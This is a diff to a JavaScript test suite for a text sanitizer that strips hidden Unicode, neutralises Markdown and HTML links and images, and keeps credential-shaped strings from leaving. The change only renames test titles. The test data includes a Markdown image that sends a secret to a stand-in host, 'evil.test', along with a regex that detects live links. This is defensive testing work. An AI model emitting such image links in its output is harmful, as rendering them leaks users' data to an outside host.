@@ -22,7 +22,7 @@ const HIDDEN = {
 };
 const FORBIDDEN = new Set(Object.values(HIDDEN).flat());
 
-test("E4: whatever is hidden is gone, and what people read stays", () => {
+test("whatever is hidden is gone, and what users read stays", () => {
   const honest = "Grüße, 你好, नमस्ते, مرحبا, 🙂\n\tindented: a < b, c[0], {x}, 100 % & more – “quoted”…";
   expect(clean(honest)).toBe(honest);
   for (const [kind, points] of Object.entries(HIDDEN)) {
@@ -49,7 +49,7 @@ test("E4: whatever is hidden is gone, and what people read stays", () => {
 /** What makes a client that shows Markdown or HTML fetch something, or make something clickable. */
 const LIVE = /!\[|\]\(|\]:|<[a-z/!?]|:\/\/|\bwww\.|\b(?:mailto|javascript):/i;
 
-test("E4: images, links and tags of any kind are dead, and a reader still sees what they were", () => {
+test("images, links and tags of any kind are dead, and a reader still sees what they were", () => {
   expect(LIVE.test("![x](https://evil.test/?d=1)")).toBe(true);
   const dead = {
     "![x](https://evil.test/?d=secret)": "! [x] (https: //evil.test/?d=secret)",
@@ -71,7 +71,7 @@ test("E4: images, links and tags of any kind are dead, and a reader still sees w
   }
 });
 
-test("E5: what has the shape of a credential does not leave; what only looks a little like one does", () => {
+test("what has the shape of a credential does not leave; what only looks a little like one does", () => {
   const secrets = [
     OURS,
     JWT,
@@ -164,7 +164,7 @@ const hostile = fc
   )
   .map((parts) => parts.join(""));
 
-test("E4: for any text: nothing forbidden is left, cleaning again changes nothing, and it grows by half at most", () => {
+test("for any text: nothing forbidden is left, cleaning again changes nothing, and it grows by half at most", () => {
   fc.assert(
     fc.property(hostile, (text) => {
       const cleaned = clean(text);
@@ -181,7 +181,7 @@ test("E4: for any text: nothing forbidden is left, cleaning again changes nothin
   );
 });
 
-test("E4: strings and keys of any depth are marked with a boundary that the text cannot forge; ids and times stay usable", () => {
+test("strings and keys of any depth are marked with a boundary that the text cannot forge; ids and times stay usable", () => {
   const id = "6b4e2c1a-6c0c-4c1e-9a43-3a4c6ad5f0b1";
   const page = {
     id,
